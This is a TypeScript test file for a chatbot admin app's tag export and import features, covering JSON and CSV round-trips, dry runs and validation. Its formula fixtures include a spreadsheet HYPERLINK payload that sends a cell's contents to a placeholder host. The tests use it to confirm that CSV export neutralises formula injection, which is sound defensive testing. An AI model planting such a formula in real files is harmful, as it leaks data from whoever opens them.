import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { signUpAdmin, useTestContext } from '../../../test/helpers';
import { fromSpreadsheetCell, parseCsv, toCsv, toSpreadsheetCell } from './csv';
import { body } from '../../../test/client';
import { tagsClient, sampleTag, snapshotTables, type TagsClient } from './testing';

const ctx = useTestContext();
let admin: TagsClient;

beforeAll(async () => {
  admin = tagsClient(ctx.app, (await signUpAdmin(ctx)).token);
});
beforeEach(async () => {
  await admin.clear('Soekarno');
  await admin.clear('Hatta');
});

/** Tags whose texts exercise CSV quoting: commas, quotes, line breaks, unicode. */
const TRICKY = [
  {
    tag: 'sapaan, resmi',
    input: [
      'Halo, Bung!',
      'Apa kabar "Bung Besar"?',
      'baris satu\nbaris dua',
      'Selamat pagi\r\nPak',
    ],
    responses: ['Merdeka! "Bersatu kita teguh"', 'Salam, kawan — semoga sehat. 🇮🇩'],
  },
  {
    tag: 'proklamasi',
    input: ['Kapan proklamasi?', '17-08-1945', '=1+1', '  spasi di tepi  '],
    responses: ['Pagi itu, di Pegangsaan Timur 56.'],
  },
  { tag: '"kutipan"', input: ['"', '""', ','], responses: ["'tunggal'"] },
];

/** Texts a spreadsheet would evaluate, and texts that genuinely start with a single quote. */
const FORMULAS = [
  {
    tag: '=rumus',
    input: [
      '=HYPERLINK("http://contoh.test/?d="&A1,"klik")',
      '+62 812 0000',
      '-2+3',
      '@SUM(1,1)',
      "'=sudah dikutip",
      "'biasa saja",
      "''",
      'teks biasa',
    ],
    responses: ['=1+1', "'+ tetap"],
  },
];

async function fill(nama: string, tags: typeof TRICKY) {
  for (const t of tags) await admin.create({ nama, ...t });
}

const stripIds = (list: { tag: string; input: string[]; responses: string[] }[]) =>
  list.map(({ tag, input, responses }) => ({ tag, input, responses }));

describe('export', () => {
  it('downloads the JSON archive as an attachment, in the seed file shape', async () => {
    await fill('Soekarno', TRICKY);
    const res = await admin.get('/api/chatbot/export/soekarno');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="dwitunggal-soekarno-tags-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    const archive = res.json<{ version: number; nama: string; tags: unknown[] }>();
    expect(archive).toEqual({
      version: 1,
      nama: 'Soekarno',
      tags: TRICKY.map((t) => ({ ...t, input: t.input.map((s) => s.trim()) })),
    });
  });

  it('downloads CSV (tag,kind,text) with RFC 4180 quoting and CRLF line ends', async () => {
    await fill('Hatta', TRICKY.slice(0, 1));
    const res = await admin.get('/api/chatbot/export/Hatta?format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/filename="dwitunggal-hatta-tags-.*\.csv"/);
    expect(res.body).toBe(
      'tag,kind,text\r\n' +
        '"sapaan, resmi",input,"Halo, Bung!"\r\n' +
        '"sapaan, resmi",input,"Apa kabar ""Bung Besar""?"\r\n' +
        '"sapaan, resmi",input,"baris satu\nbaris dua"\r\n' +
        '"sapaan, resmi",input,"Selamat pagi\r\nPak"\r\n' +
        '"sapaan, resmi",response,"Merdeka! ""Bersatu kita teguh"""\r\n' +
        '"sapaan, resmi",response,"Salam, kawan — semoga sehat. 🇮🇩"\r\n',
    );
  });

  it('CSV cells that a spreadsheet would run as a formula start with a single quote', async () => {
    await fill('Hatta', FORMULAS);
    const res = await admin.get('/api/chatbot/export/Hatta?format=csv');
    expect(res.statusCode).toBe(200);
    const cells = parseCsv(res.body).flatMap((r) => r.fields);
    // No cell starts a formula: a spreadsheet shows every one of them as text.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining([
        "'=rumus",
        `'=HYPERLINK("http://contoh.test/?d="&A1,"klik")`,
        "'+62 812 0000",
        "'-2+3",
        "'@SUM(1,1)",
        "''=sudah dikutip",
        "'biasa saja",
        "''",
      ]),
    );
  });

  it('answers 400 for an unknown format and 404 for an unknown figure', async () => {
    expect((await admin.get('/api/chatbot/export/Hatta?format=xml')).statusCode).toBe(400);
    expect((await admin.get('/api/chatbot/export/Sjahrir')).statusCode).toBe(404);
  });
});

describe('import', () => {
  it('JSON export then import into an empty figure reproduces the data exactly', async () => {
    await fill('Soekarno', TRICKY);
    const exported = (await admin.get('/api/chatbot/export/Soekarno')).json<{
      tags: unknown[];
    }>();
    const res = await admin.post('/api/chatbot/import/Hatta?dryRun=false', exported);
    expect(res.statusCode).toBe(200);
    expect(body(res)).toMatchObject({
      message: 'Data berhasil diimpor',
      data: {
        dryRun: false,
        tagsCreated: 3,
        tagsMerged: 0,
        inputsAdded: 11,
        responsesAdded: 4,
        totalTagsAfter: 3,
        errors: [],
      },
    });
    expect(body<{ warnings: string[] }>(res).data.warnings).toEqual([
      'Berkas ini berisi data Soekarno, tetapi akan diimpor ke Hatta.',
    ]);
    expect(stripIds(await admin.list('Hatta'))).toEqual(stripIds(await admin.list('Soekarno')));
    const again = (await admin.get('/api/chatbot/export/Hatta')).json<{ tags: unknown[] }>();
    expect(again.tags).toEqual(exported.tags);
  });

  it('CSV export then import into the emptied figure reproduces the data exactly', async () => {
    await fill('Hatta', TRICKY);
    const original = stripIds(await admin.list('Hatta'));
    const csv = (await admin.get('/api/chatbot/export/Hatta?format=csv')).body;
    await admin.clear('Hatta');
    const res = await admin.post('/api/chatbot/import/Hatta', { format: 'csv', content: csv });
    expect(res.statusCode).toBe(200);
    expect(body(res).data).toMatchObject({ tagsCreated: 3, errors: [], warnings: [] });
    expect(stripIds(await admin.list('Hatta'))).toEqual(original);
    expect((await admin.get('/api/chatbot/export/Hatta?format=csv')).body).toBe(csv);
  });

  it('CSV import gives back the exact texts behind neutralised formula cells', async () => {
    await fill('Hatta', FORMULAS);
    const original = stripIds(await admin.list('Hatta'));
    expect(original[0]?.input).toContain("'=sudah dikutip");
    const csv = (await admin.get('/api/chatbot/export/Hatta?format=csv')).body;
    await admin.clear('Hatta');
    const res = await admin.post('/api/chatbot/import/Hatta', { format: 'csv', content: csv });
    expect(res.statusCode).toBe(200);
    expect(body(res).data).toMatchObject({ tagsCreated: 1, errors: [] });
    expect(stripIds(await admin.list('Hatta'))).toEqual(original);
  });

  it('a dry run previews the counts and writes nothing', async () => {
    await admin.create({
      nama: 'Hatta',
      tag: 'sapaan',
      input: ['halo', 'hai'],
      responses: ['halo juga'],
    });
    const before = await snapshotTables(ctx.database.db);
    const file = {
      version: 1,
      nama: 'Hatta',
      tags: [
        { tag: 'SAPAAN', input: ['Halo', 'selamat pagi'], responses: ['halo juga', 'pagi juga'] },
        {
          tag: 'pendidikan',
          input: ['di mana bung sekolah', 'Rotterdam'],
          responses: ['Di Rotterdam.'],
        },
        { tag: 'Pendidikan', input: ['rotterdam', 'kuliah apa'], responses: ['Ekonomi.'] },
      ],
    };
    const res = await admin.post('/api/chatbot/import/Hatta?dryRun=true', file);
    expect(res.statusCode).toBe(200);
    expect(body(res)).toMatchObject({
      message: 'Pratinjau impor',
      data: {
        dryRun: true,
        tagsCreated: 1,
        tagsMerged: 1,
        inputsAdded: 4,
        responsesAdded: 3,
        totalTagsAfter: 2,
        errors: [],
        warnings: [],
      },
    });
    expect(await snapshotTables(ctx.database.db)).toEqual(before);
    // The real run applies exactly what was previewed.
    const real = await admin.post('/api/chatbot/import/Hatta', file);
    expect(body(real).data).toMatchObject({
      dryRun: false,
      tagsCreated: 1,
      tagsMerged: 1,
      inputsAdded: 4,
      responsesAdded: 3,
    });
    expect(stripIds(await admin.list('Hatta'))).toEqual([
      {
        tag: 'sapaan',
        input: ['halo', 'hai', 'selamat pagi'],
        responses: ['halo juga', 'pagi juga'],
      },
      {
        tag: 'pendidikan',
        input: ['di mana bung sekolah', 'Rotterdam', 'kuliah apa'],
        responses: ['Di Rotterdam.', 'Ekonomi.'],
      },
    ]);
  });

  it('refuses (409, nothing written) an import that would exceed 15 tags; the dry run says why', async () => {
    for (let i = 1; i <= 10; i += 1) await admin.create(sampleTag('Soekarno', `ada ${i}`));
    const before = await snapshotTables(ctx.database.db);
    const file = {
      tags: [
        sampleTag('', 'ada 1', 4),
        ...Array.from({ length: 6 }, (_, i) => sampleTag('', `baru ${i}`)),
      ],
    };
    const dry = await admin.post('/api/chatbot/import/Soekarno?dryRun=true', file);
    expect(dry.statusCode).toBe(200);
    const preview = body<{ totalTagsAfter: number; errors: { path: string; message: string }[] }>(
      dry,
    ).data;
    expect(preview.totalTagsAfter).toBe(16);
    expect(preview.errors).toEqual([
      { path: 'tags', message: expect.stringContaining('Maksimal 15 tag per karakter') },
    ]);
    const res = await admin.post('/api/chatbot/import/Soekarno?dryRun=false', file);
    expect(res.statusCode).toBe(409);
    expect(body(res).message).toContain('Maksimal 15 tag per karakter');
    expect(await snapshotTables(ctx.database.db)).toEqual(before);
  });

  it('validates every tag with the create rules: errors per tag, nothing written', async () => {
    await admin.create(sampleTag('Hatta', 'ada'));
    const before = await snapshotTables(ctx.database.db);
    const file = {
      version: 1,
      tags: [
        sampleTag('', 'baik'),
        { tag: '  ', input: ['a'], responses: ['b'] },
        { tag: 'kosong', input: [' '], responses: ['b'] },
        { tag: 'panjang', input: ['x'.repeat(201)], responses: ['b'] },
        'bukan objek',
        { tag: 'tanpa jawaban', input: ['a'] },
      ],
    };
    const dry = await admin.post('/api/chatbot/import/Hatta?dryRun=true', file);
    expect(dry.statusCode).toBe(200);
    expect(body<{ errors: unknown[]; tagsCreated: number }>(dry).data).toMatchObject({
      tagsCreated: 1,
      errors: [
        { path: 'tags[1].tag', message: 'Tag name is required' },
        { path: 'tags[2].input', message: 'kosong: At least one input is required' },
        { path: 'tags[3].input', message: 'panjang: Each input can be at most 200 characters' },
        { path: 'tags[4]', message: 'Each tag must be an object {tag, input, responses}' },
        { path: 'tags[5].responses', message: 'tanpa jawaban: At least one response is required' },
      ],
    });
    const res = await admin.post('/api/chatbot/import/Hatta', file);
    expect(res.statusCode).toBe(400);
    expect(body(res).errors).toMatchObject({
      'tags[1].tag': 'Tag name is required',
      'tags[4]': expect.any(String),
    });
    expect(await snapshotTables(ctx.database.db)).toEqual(before);
  });

  it('reports malformed CSV by line, and refuses it', async () => {
    const cases: [string, string][] = [
      ['tag,kind,text\r\nsapaan,input,"tidak ditutup\r\n', 'line 2'],
      ['nama,jenis,teks\r\nsapaan,input,halo\r\n', 'line 1'],
      ['tag,kind,text\r\nsapaan,pertanyaan,halo\r\n', 'line 2'],
      ['tag,kind,text\r\nsapaan,input\r\n', 'line 2'],
      ['tag,kind,text\r\nsapaan,input,ha"lo\r\n', 'line 2'],
      ['tag,kind,text\r\nsapaan,input,"halo"x\r\n', 'line 2'],
    ];
    for (const [content, path] of cases) {
      const dry = await admin.post('/api/chatbot/import/Hatta?dryRun=true', {
        format: 'csv',
        content,
      });
      expect(dry.statusCode, content).toBe(200);
      const errors = body<{ errors: { path: string }[] }>(dry).data.errors;
      expect(errors[0]?.path, content).toBe(path);
      expect(
        (await admin.post('/api/chatbot/import/Hatta', { format: 'csv', content })).statusCode,
      ).toBe(400);
    }
    expect(await admin.list('Hatta')).toEqual([]);
  });

  it('rejects bodies that are neither an archive nor CSV, and a bad dryRun, with 400', async () => {
    for (const payload of [
      {},
      { tags: 'x' },
      { format: 'xml', content: '' },
      { format: 'csv' },
      [],
      { version: 2, tags: [] },
    ]) {
      const res = await admin.post('/api/chatbot/import/Hatta', payload);
      expect(res.statusCode, JSON.stringify(payload)).toBe(400);
      expect(body(res)).toMatchObject({ code: 400, status: 'error' });
    }
    expect(
      (await admin.post('/api/chatbot/import/Hatta?dryRun=maybe', { tags: [] })).statusCode,
    ).toBe(400);
    expect((await admin.post('/api/chatbot/import/Sjahrir', { tags: [] })).statusCode).toBe(404);
  });
});

describe('csv', () => {
  it('formula neutralisation is undone exactly, for any run of leading quotes', () => {
    const texts = ['=a', '+a', '-a', '@a', '\ta', '\ra', "'=a", "''=a", "'a", "''", "'", 'a=b', ''];
    for (const t of texts) {
      expect(fromSpreadsheetCell(toSpreadsheetCell(t))).toBe(t);
      expect(toSpreadsheetCell(t)).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(texts.map(toSpreadsheetCell)).toEqual([
      "'=a",
      "'+a",
      "'-a",
      "'@a",
      "'\ta",
      "'\ra",
      "''=a",
      "'''=a",
      "'a",
      "''",
      "'",
      'a=b',
      '',
    ]);
  });

  it('round-trips any texts, including quotes, commas and line breaks', () => {
    const records = [
      ['tag', 'kind', 'text'],
      ['a,b', 'input', 'say "hi"'],
      ['', 'response', '\r\n\n\r'],
      ['x', 'y', ''],
      ['🇮🇩', 'é', '"'],
    ];
    expect(parseCsv(toCsv(records)).map((r) => r.fields)).toEqual(records);
    expect(parseCsv('\uFEFFa,b\nc,"d\ne"\n\nf,g').map((r) => [r.line, r.fields])).toEqual([
      [1, ['a', 'b']],
      [2, ['c', 'd\ne']],
      [5, ['f', 'g']],
    ]);
  });
});
